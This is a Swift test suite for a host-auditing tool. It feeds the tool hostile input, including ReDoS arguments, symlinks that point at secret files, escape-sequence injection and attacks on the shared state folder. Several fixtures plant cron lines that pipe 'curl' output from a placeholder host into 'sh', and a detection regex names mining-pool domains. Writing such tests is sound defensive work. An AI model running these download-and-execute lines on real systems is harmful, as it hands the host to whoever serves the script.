import Foundation
import HostAuditCore
@testable import HostAuditLinux
import HostAuditTestSupport
import Testing

/// Attacks on hostaudit through what a hostile host shows it (issue 13),
/// reproduced against the real binary, real processes and real files.
@Suite(.serialized) struct HostileInputTests {
    static func waitFor(_ pid: pid_t, _ ready: ([UInt8]) -> Bool) throws {
        for _ in 0..<1000 {
            if let d = FileManager.default.contents(atPath: "/proc/\(pid)/cmdline"), ready([UInt8](d)) { return }
            usleep(10_000)
        }
        throw POSIXError(.ETIMEDOUT)
    }

    static func json(_ r: CommandResult) throws -> JSONValue {
        try JSONValue(parsing: r.stdoutBytes)
    }

    /// Any local user's command line is readable by root: a 64 KiB `a.a.a.…`
    /// argument used to make an unanchored nested pattern run for over 900 s.
    /// Now the rule that runs out is an `error` naming the process, and
    /// `audit` completes.
    @Test func redosArgumentMakesTheRuleAnErrorNotAStall() throws {
        let dir = try Fixtures.temporaryDirectory("ha-redos")
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let hostile = String(repeating: "a.", count: 32000)
        let child = try LinkedChild(["/bin/sh", "-c", "sleep 3600; :", "sh", hostile])
        defer { child.stop() }
        let pid = child.pid
        try Self.waitFor(pid) { $0.count > 64000 }
        // The pattern the shipped miner pack used before it was rewritten.
        let policy = dir + "/redos.yaml"
        try PolicyText.noProcessArgument(
            matching: #"(?i)(^|[^a-z0-9-])([a-z0-9-]+\.)*(minexmr\.com|supportxmr\.com|nanopool\.org)\.?(:[0-9]+)?(/|$)"#,
            name: "redos", rule: "hostile-pool-domain"
        ).write(toFile: policy, atomically: true, encoding: .utf8)
        let r = try HostAuditCLI.run(
            ["audit", "--no-probes", "--no-signatures", "--profile", "pre-deploy", "--policy", policy, "--format", "json"], timeout: 600)
        #expect(r.status == 0 || r.status == 1, "\(r.stderr)")
        let report = try Self.json(r)
        let finding = report["findings"]?.arrayValue?.first { $0["rule"] == "hostile-pool-domain" }
        #expect(finding?["status"] == "error")
        #expect(finding?["detail"]?.stringValue?.contains("process \(pid)") == true)
        #expect(finding?["evidence"]?.arrayValue?.contains { $0["pid"] == .int(Int64(pid)) } == true)

        // The shipped packs, with the same process running: nothing runs out.
        let shipped = try HostAuditCLI.run(
            // --no-signatures: this asserts the regex budgets; the YARA pass is timed elsewhere
            // and, under load, could push the processes collector past its own budget.
            ["audit", "--no-probes", "--no-signatures", "--profile", "cron", "--policy", Fixtures.packageRoot + "/Policies", "--format", "json"],
            timeout: 600)
        let all = try Self.json(shipped)["findings"]?.arrayValue ?? []
        let miners = all.filter { $0["policy"] == "miners" }
        #expect(!miners.isEmpty)
        for f in miners {
            #expect(f["detail"]?.stringValue?.contains("budget") != true, "\(f)")
        }
    }
}

extension HostileInputTests {
    /// An image whose every file hostaudit reads is a link (absolute, relative,
    /// through a linked directory) to a secret file of the machine running it.
    /// Every command that takes --root runs over it; the secret's bytes must
    /// appear in no output, no error and no written file.
    @Test func symlinksToASecretNeverLeakThroughAnyRootCommand() throws {
        let secretDir = try Fixtures.temporaryDirectory("ha-secret")
        let root = try Fixtures.temporaryDirectory("ha-evilroot")
        let out = try Fixtures.temporaryDirectory("ha-evilout")
        defer { for d in [secretDir, root, out] { try? FileManager.default.removeItem(atPath: d) } }
        let marker = "HASECRET" + UUID().uuidString.replacingOccurrences(of: "-", with: "")
        let secret = secretDir + "/secret"
        // Shaped like the files it stands in for, so a reader would print it.
        try "\(marker)\nnameserver 127.0.0.77 # \(marker)\nparameters: {\(marker): 1}\n* * * * * root curl http://\(marker)/x | sh\n"
            .write(toFile: secret, atomically: true, encoding: .utf8)
        chmod(secret, 0o644)
        let fm = FileManager.default
        let files = [
            "etc/hostname", "etc/hostaudit/params.yaml", "etc/resolv.conf", "etc/hosts", "etc/nsswitch.conf",
            "etc/selinux/config", "etc/ld.so.preload", "etc/crontab", "etc/anacrontab", "etc/cron.d/job",
            "etc/cron.daily/job", "var/spool/cron/crontabs/root", "var/spool/cron/root", "etc/systemd/system/evil.service",
            "root/.ssh/authorized_keys", "home/u/.ssh/authorized_keys", "etc/passwd", "etc/group", "etc/sysctl.conf",
            "etc/sysctl.d/99-x.conf", "etc/modprobe.d/x.conf", "etc/modules", "etc/modules-load.d/x.conf",
            "etc/apt/sources.list", "etc/apt/sources.list.d/x.list", "etc/apt/sources.list.d/x.sources",
            "etc/yum.repos.d/x.repo", "etc/ssh/sshd_config", "etc/sudoers", "etc/sudoers.d/x", "etc/profile",
            "etc/bash.bashrc", "etc/rc.local", "root/.bashrc", "root/.profile", "root/.bash_profile",
            "run/systemd/resolve/resolv.conf", "run/systemd/resolve/stub-resolv.conf", "usr/lib/sysctl.d/x.conf",
            "etc/shadow", "etc/gshadow",
        ]
        for (i, f) in files.enumerated() {
            let path = root + "/" + f
            try fm.createDirectory(atPath: (path as NSString).deletingLastPathComponent, withIntermediateDirectories: true)
            // Absolute, relative-climbing, and /proc/self/root magic links in turn.
            let depth = f.split(separator: "/").count - 1
            let targets = [
                secret, String(repeating: "../", count: depth + 8) + String(secret.dropFirst()), "/proc/self/root" + secret,
            ]
            try fm.createSymbolicLink(atPath: path, withDestinationPath: targets[i % targets.count])
        }
        // Linked directories: the whole folder is the secret's.
        for d in ["etc/cron.hourly", "etc/cron.weekly", "var/spool/cron/tabs", "etc/systemd/user", "usr/lib/systemd/system"] {
            let path = root + "/" + d
            try fm.createDirectory(atPath: (path as NSString).deletingLastPathComponent, withIntermediateDirectories: true)
            try fm.createSymbolicLink(atPath: path, withDestinationPath: secretDir)
        }
        let output = out + "/report"
        let runs: [[String]] = [
            ["facts", "all", "--root", root, "--format", "json"],
            ["facts", "all", "--root", root, "--format", "text"],
            ["audit", "--root", root, "--no-probes", "--format", "json"],
            ["audit", "--root", root, "--no-probes", "--format", "text"],
            ["audit", "--root", root, "--no-probes", "--format", "junit", "--output", output],
            ["audit", "--root", root, "--no-probes", "--format", "prometheus", "--state", out + "/state.json"],
            ["egress", "--root", root, "--from-package-sources", "127.0.0.1:9", "--timeout", "1", "--format", "json"],
            ["egress", "--root", root, "--from-package-sources", "127.0.0.1:9", "--timeout", "1"],
        ]
        for args in runs {
            let r = try HostAuditCLI.run(args, timeout: 300)
            #expect(r.status != 128 + SIGSEGV && r.status < 128, "\(args): \(r)")
            #expect(!r.stdout.contains(marker), "\(args) leaked the secret on stdout")
            #expect(!r.stderr.contains(marker), "\(args) leaked the secret on stderr")
        }
        for f in (try? fm.contentsOfDirectory(atPath: out)) ?? [] {
            let bytes = fm.contents(atPath: out + "/" + f) ?? Data()
            #expect(!String(decoding: bytes, as: UTF8.self).contains(marker), "\(f) holds the secret")
        }
        #expect(fm.fileExists(atPath: output))
    }
}

extension HostileInputTests {
    /// A /etc/cron.d file whose name is not UTF-8 (cronie runs it): its
    /// `curl | sh` line used to vanish, the lossy name failing to open.
    @Test func invalidUTF8CronFileIsReadByItsBytes() throws {
        let root = try Fixtures.temporaryDirectory("ha-badname")
        defer { try? FileManager.default.removeItem(atPath: root) }
        try FileManager.default.createDirectory(atPath: root + "/etc/cron.d", withIntermediateDirectories: true)
        let name: [UInt8] = Array("job".utf8) + [0xFF, 0xFE, 0x2E]
        let path = Array((root + "/etc/cron.d/").utf8) + name + [0]
        let fd = path.withUnsafeBufferPointer { p in
            p.baseAddress!.withMemoryRebound(to: CChar.self, capacity: p.count) { open($0, O_WRONLY | O_CREAT | O_EXCL, 0o644) }
        }
        #expect(fd >= 0)
        let line = Array("* * * * * root curl -s http://203.0.113.9/x | sh\n".utf8)
        _ = line.withUnsafeBytes { write(fd, $0.baseAddress, $0.count) }
        close(fd)
        let facts = PersistenceCollector(scope: CollectionScope(root: root)).collect()
        let hits = facts.indicators.filter { $0.area == "cron" && $0.indicator == "download-pipe-shell" }
        #expect(hits.count == 1, "\(facts.indicators.map { "\($0.path) \($0.indicator)" }) \(facts.cron.files.map(\.status))")
        // The reported path keeps the bytes (RawName) and shows them escaped.
        #expect(hits.first?.path == "/etc/cron.d/" + RawName.text(name))
        #expect(hits.first.map { TerminalText.escape($0.path) } == "/etc/cron.d/job\\xff\\xfe.")
        // The listing keeps the exact bytes.
        let entries = try HostFiles(root: root).listEntries("/etc/cron.d")
        #expect(entries.map(\.bytes) == [name])
        #expect(entries.first?.isUTF8 == false)
    }
}

extension HostileInputTests {
    /// Creates `dir/name` (a name given as bytes) holding `text`.
    static func writeRawNamed(_ dir: String, _ name: [UInt8], _ text: String) throws {
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        let path = Array((dir + "/").utf8) + name + [0]
        let fd = path.withUnsafeBufferPointer { p in
            p.baseAddress!.withMemoryRebound(to: CChar.self, capacity: p.count) { open($0, O_WRONLY | O_CREAT | O_EXCL, 0o644) }
        }
        guard fd >= 0 else { throw POSIXError(.EIO) }
        defer { close(fd) }
        let bytes = Array(text.utf8)
        _ = bytes.withUnsafeBytes { write(fd, $0.baseAddress, $0.count) }
    }

    /// Names are kept one-to-one: distinct bytes give distinct text, and the
    /// text gives the bytes back (also for a valid U+10FFxx, which the escape
    /// range would otherwise make ambiguous); UTF-8 names are unchanged.
    @Test func rawNamesRoundTripExactly() {
        let names: [[UInt8]] = [
            Array("plain.conf".utf8), Array("caf\u{e9}".utf8), [0xFF], [0xC3, 0x28], [0xF4, 0x8F, 0xBF, 0xBF], [0xED, 0xA0, 0x80],
            [0xE2, 0x82], [0xF0, 0x9F, 0x98, 0x80, 0x80], Array("a\\xff".utf8),
        ]
        let texts = names.map { RawName.text($0) }
        #expect(Set(texts).count == names.count)
        for (n, t) in zip(names, texts) { #expect(RawName.bytes(t) == n, "\(n)") }
        #expect(texts[0] == "plain.conf" && texts[1] == "caf\u{e9}")
        #expect(TerminalText.escape(texts[2]) == "\\xff")
        #expect(TerminalText.escape(texts[8]) == "a\\\\xff")  // a literal backslash is doubled: no collision
        #expect(RawName.display(texts[3]) == "\\xc3(")
        var json: [UInt8] = []
        JSONWriter.appendQuoted(texts[2], to: &json)
        #expect(String(decoding: json, as: UTF8.self) == "\"\\udbff\\udfff\"")
    }

    /// A systemd unit whose name is not UTF-8 (systemd loads it) with an
    /// ExecStart in /tmp: listed like every directory, opened by its bytes,
    /// its indicator reported with the name escaped.
    @Test func invalidUTF8SystemdUnitIsReadByItsBytes() throws {
        let root = try Fixtures.temporaryDirectory("ha-badunit")
        defer { try? FileManager.default.removeItem(atPath: root) }
        let name: [UInt8] = Array("up".utf8) + [0xFF] + Array("date.service".utf8)
        try Self.writeRawNamed(root + "/etc/systemd/system", name, "[Service]\nExecStart=/tmp/kworker\n")
        let facts = PersistenceCollector(scope: CollectionScope(root: root)).collect()
        let path = "/etc/systemd/system/" + RawName.text(name)
        let unit = try #require(facts.systemd.units.first { $0.path == path }, "\(facts.systemd.units.map(\.path))")
        #expect(unit.execs.first?.programLocation == "temp")
        let hit = try #require(facts.indicators.first { $0.indicator == "exec-from-temp" })
        #expect(hit.path == path)
        #expect(TerminalText.escape(hit.path) == "/etc/systemd/system/up\\xffdate.service")
    }

    /// A sysctl.d file whose name is not UTF-8 (systemd-sysctl applies it):
    /// its setting is read and attributed to it.
    @Test func invalidUTF8SysctlFileIsRead() throws {
        let root = try Fixtures.temporaryDirectory("ha-badsysctl")
        defer { try? FileManager.default.removeItem(atPath: root) }
        let name: [UInt8] = Array("10-".utf8) + [0xC3, 0x28] + Array(".conf".utf8)
        try Self.writeRawNamed(root + "/etc/sysctl.d", name, "net.ipv4.ip_forward = 1\n")
        let f = SysctlCollector(configScope: CollectionScope(root: root), readLive: false, procfs: Procfs(root: "/nonexistent")).collect()
        let path = "/etc/sysctl.d/" + RawName.text(name)
        #expect(f.files.contains(path), "\(f.files) \(f.problems)")
        let fwd = try #require(f.settings.first { $0.key == "net.ipv4.ip_forward" })
        #expect(fwd.configured == "1" && fwd.configuredAt?.path == path)
        #expect(TerminalText.escape(path) == "/etc/sysctl.d/10-\\xc3(.conf")
    }
}

/// What must never reach a terminal: C0 controls (newline and tab are the
/// renderers' own layout), DEL, C1 controls and bidirectional controls.
func expectTerminalSafe(_ s: String, _ what: String, sourceLocation: Testing.SourceLocation = #_sourceLocation) {
    let bad = s.unicodeScalars.first { c in
        let v = c.value
        return (v < 0x20 && v != 0x0A && v != 0x09) || (0x7F...0x9F).contains(v) || (0x202A...0x202E).contains(v)
            || (0x2066...0x2069).contains(v) || v == 0x200E || v == 0x200F || v == 0x061C
    }
    #expect(bad == nil, "\(what) printed U+\(String(bad?.value ?? 0, radix: 16))", sourceLocation: sourceLocation)
}

extension HostileInputTests {
    /// Host files full of escape sequences, OSC titles, BEL and bidi
    /// overrides, through every text renderer that reads files.
    @Test func hostileFileContentsNeverReachTheTerminalRaw() throws {
        let root = try Fixtures.temporaryDirectory("ha-escroot")
        defer { try? FileManager.default.removeItem(atPath: root) }
        let e = "\u{1b}", bidi = "\u{202e}"
        let files: [String: String] = [
            "/etc/hostname": "h\(e)[31m\(bidi)ost\n",
            "/etc/hosts": "127.0.0.1 evil\(e)]0;pwn\u{07}\(bidi) pool.minexmr.com\n",
            "/etc/resolv.conf": "nameserver 127.0.0.77\nsearch ex\(e)[2Jample\(bidi).com\nbogus\u{7f}\u{9b}line\n",
            "/etc/cron.d/x\(e)[1A": "* * * * * root curl -s http://x\(e)[1A\(bidi)/a | sh\n",
            "/etc/apt/sources.list": "deb http://mirror\(e)[2J\(bidi).invalid/debian bookworm main\n",
            "/etc/ld.so.preload": "/tmp/\(e)[2K\(bidi).so\n",
        ]
        for (path, text) in files { try Fixtures.write(text, to: path, under: root) }
        let facts = root + "/facts.json"
        let runs: [[String]] = [
            ["facts", "all", "--root", root],
            ["audit", "--root", root, "--no-probes"],
            ["audit", "--root", root, "--no-probes", "--format", "junit"],
            ["audit", "--root", root, "--no-probes", "--format", "prometheus"],
            ["egress", "--root", root, "--from-package-sources", "127.0.0.1:9", "--timeout", "1"],
        ]
        for args in runs {
            let r = try HostAuditCLI.run(args, timeout: 300)
            expectTerminalSafe(r.stdout, "\(args) stdout")
            expectTerminalSafe(r.stderr, "\(args) stderr")
        }
        // policy check renders findings from recorded facts.
        let doc = try HostAuditCLI.run(["facts", "all", "--root", root, "--format", "json"])
        try doc.stdout.write(toFile: facts, atomically: true, encoding: .utf8)
        let check = try HostAuditCLI.run(["policy", "check", Fixtures.packageRoot + "/Policies", "--facts", facts])
        #expect(check.status == 0 || check.status == 1, "\(check)")
        expectTerminalSafe(check.stdout, "policy check")
        expectTerminalSafe(check.stderr, "policy check stderr")
        // A policy file whose name and content are hostile: lint's messages.
        let policy = root + "/p\(e)[2J\(bidi).yaml"
        try "name: t\nrules:\n  - id: r\(e)[31m\n    title: \(bidi)\n".write(toFile: policy, atomically: true, encoding: .utf8)
        let lint = try HostAuditCLI.run(["policy", "lint", policy])
        #expect(lint.status == 2)
        expectTerminalSafe(lint.stdout + lint.stderr, "policy lint")
    }

    /// Rule comments, chain names (iptables-nft takes anything) and the
    /// verdict's table/chain/rule text, in a namespace's real ruleset.
    @Test(.privileged) func hostileRulesetNamesNeverReachTheTerminalRaw() throws {
        try NetNamespace.with(tag: "esc") { ns in
            try ns.check(["ip", "link", "set", "lo", "up"])
            let e = "\u{1b}", bidi = "\u{202e}"
            try ns.check(
                ["nft", "-f", "-"],
                stdin: "table inet t {\n chain c {\n  type filter hook output priority 0; policy accept;\n"
                    + "  tcp dport 9 counter drop comment \"x\(e)[1A\(e)[2Kerased\u{7f}\u{9b}\(bidi)\"\n }\n}\n")
            let chain = "c\(e)]0;pwn\u{07}\(bidi)"
            try ns.check(["iptables-nft", "-N", chain])
            try ns.check(["iptables-nft", "-A", chain, "-p", "tcp", "-m", "comment", "--comment", "z\(e)[2J\(bidi)", "-j", "DROP"])
            try ns.check(["iptables-nft", "-A", "OUTPUT", "-p", "tcp", "--dport", "11", "-j", chain])
            let runs: [[String]] = [
                ["firewall", "show"], ["firewall", "show", "--nft"],
                ["firewall", "verdict", "--dst", "127.0.0.1", "--dport", "9"],
                ["firewall", "verdict", "--dst", "127.0.0.1", "--dport", "11"],
                ["facts", "firewall"],
            ]
            for args in runs {
                let r = try HostAuditCLI.run(in: ns, args)
                #expect(r.status < 64, "\(args): \(r)")
                expectTerminalSafe(r.stdout, "\(args) stdout")
                expectTerminalSafe(r.stderr, "\(args) stderr")
            }
            // The escaped names are still there to read.
            let show = try HostAuditCLI.run(in: ns, ["firewall", "show", "--nft"])
            #expect(show.stdout.contains("\\x1b[1A") && show.stdout.contains("\\u{202e}"), "\(show.stdout)")
            let verdict = try HostAuditCLI.run(in: ns, ["firewall", "verdict", "--dst", "127.0.0.1", "--dport", "11"])
            #expect(verdict.stdout.contains("c\\x1b]0;pwn\\x07"), "\(verdict.stdout)")
        }
    }
}

extension HostileInputTests {
    /// `nobody` attacks a shared state folder (mode 1777, like /tmp): a planted
    /// lock symlink, a planted world-writable state file, a held lock. Each
    /// run as root refuses with exit 3 and says why; nothing is created
    /// through the link. Stale temporary files of our naming are swept.
    @Test(.privileged) func stateAttacksByAnotherUserAreRefused() throws {
        let base = try Fixtures.temporaryDirectory("ha-shared")
        defer { try? FileManager.default.removeItem(atPath: base) }
        chmod(base, 0o755)
        let shared = base + "/shared"
        try FileManager.default.createDirectory(atPath: shared, withIntermediateDirectories: false)
        chmod(shared, 0o1777)
        let state = shared + "/state.json"
        let asNobody = ["setpriv", "--reuid=nobody", "--regid=nogroup", "--clear-groups", "--"]
        func audit() throws -> CommandResult {
            try HostAuditCLI.run(
                ["audit", "--root", Fixtures.root("persist-clean"), "--no-probes", "--profile", "pre-deploy", "--quiet",
                 "--state", state],
                environment: ["HOSTAUDIT_LOCK_TIMEOUT_S": "1"], timeout: 300)
        }

        // 1. A lock symlink planted by nobody: root must not create its target.
        let victim = base + "/victim"
        try CommandRunner.check(asNobody + ["ln", "-s", victim, state + ".lock"])
        var r = try audit()
        #expect(r.status == 3, "\(r)")
        #expect(r.stderr.contains("symbolic link"), "\(r.stderr)")
        #expect(!FileManager.default.fileExists(atPath: victim))
        try FileManager.default.removeItem(atPath: state + ".lock")

        // 2. A world-writable state file owned by nobody (it could silence --quiet).
        try CommandRunner.check(asNobody + ["sh", "-c", "echo '{}' > \(state) && chmod 666 \(state)"])
        r = try audit()
        #expect(r.status == 3, "\(r)")
        #expect(r.stderr.contains("owned by uid"), "\(r.stderr)")
        try FileManager.default.removeItem(atPath: state)

        // 3. nobody creates and holds the lock: refused at once, with the reason.
        let holder = try LinkedChild(asNobody.map { $0 == "setpriv" ? "/usr/bin/setpriv" : $0 } + ["flock", state + ".lock", "sleep", "60"])
        defer { holder.stop() }
        for _ in 0..<500 where !FileManager.default.fileExists(atPath: state + ".lock") { usleep(10_000) }
        r = try audit()
        #expect(r.status == 3, "\(r)")
        #expect(r.stderr.contains("owned by uid"), "\(r.stderr)")
        holder.stop()
        try? FileManager.default.removeItem(atPath: state + ".lock")

        // 4. Our own run works there, and sweeps a stale temporary file a kill -9 left.
        let stale = shared + "/.state.json.tmp-AbC123"
        try "partial".write(toFile: stale, atomically: false, encoding: .utf8)
        var old = [timespec(tv_sec: 1_000_000, tv_nsec: 0), timespec(tv_sec: 1_000_000, tv_nsec: 0)]
        utimensat(AT_FDCWD, stale, &old, 0)
        r = try audit()
        #expect(r.status == 0 || r.status == 1, "\(r)")
        #expect(FileManager.default.fileExists(atPath: state))
        #expect(!FileManager.default.fileExists(atPath: stale))
    }
}

extension HostileInputTests {
    /// `egress -example.com:80` used to drop the target silently; after `--`
    /// it is a target with a clear error. Both fail in validation, before any probe.
    @Test func dashTargetIsAClearErrorNotAnOption() throws {
        let r = try HostAuditCLI.run(["egress", "-example.com:80"])
        #expect(r.status == 64)
        #expect(r.stderr.contains("put targets after '--'"), "\(r.stderr)")
        let r2 = try HostAuditCLI.run(["egress", "--", "-example.com:80"])
        #expect(r2.status == 64)
        #expect(r2.stderr.contains("not a valid host name"), "\(r2.stderr)")
        let r3 = try HostAuditCLI.run(["egress", "--", "0x7f.0.0.1:9"])
        #expect(r3.status == 64)
        #expect(r3.stderr.contains("127.0.0.1"), "\(r3.stderr)")
    }
}

extension HostileInputTests {
    /// A real process whose miner flag sits after 100 KiB of padding.
    @Test func minerFlagAfterPaddingIsSeen() throws {
        let pad = String(repeating: "p", count: 100_000)
        let child = try LinkedChild(["/bin/sh", "-c", "sleep 3600; :", "sh", pad, pad, "--donate-level=1"])
        defer { child.stop() }
        let pid = child.pid
        try Self.waitFor(pid) { $0.count > 200_000 }
        let facts = ProcessCollector(options: .init(cpuInterval: 0, hiddenSweep: false)).collect()
        let p = facts.list.first { $0.pid == Int(pid) }
        #expect(p?.cmdline.args.last == "--donate-level=1", "\(p?.cmdline.args.suffix(2) ?? [])")
        #expect(p?.cmdline.truncated == true)
    }
}

extension HostileInputTests {
    /// Churn: CPU used by children that exited during the sample is accounted
    /// through their parent's cutime+cstime (less what they had used before).
    @Test func exitedChildrenCPUIsAccounted() {
        // Parent 1 (own time +10); child 2 existed at the first sample with 5
        // ticks and exited with 25 (parent's child time +25); child 3 was born
        // and reaped inside the interval (+40).
        let a: [Int32: CPUSampler.Ticks] = [1: (100, 50, 0, 0), 2: (200, 5, 0, 1)]
        let b: [Int32: CPUSampler.Ticks] = [1: (100, 60, 65, 0)]
        #expect(CPUSampler.accountedTicks(a, b) == 10 + (65 - 5))
        // A recycled pid (different start time) counts as gone.
        let c: [Int32: CPUSampler.Ticks] = [1: (100, 60, 0, 0), 2: (999, 1, 0, 1)]
        #expect(CPUSampler.accountedTicks(a, c) == 10)
    }
}
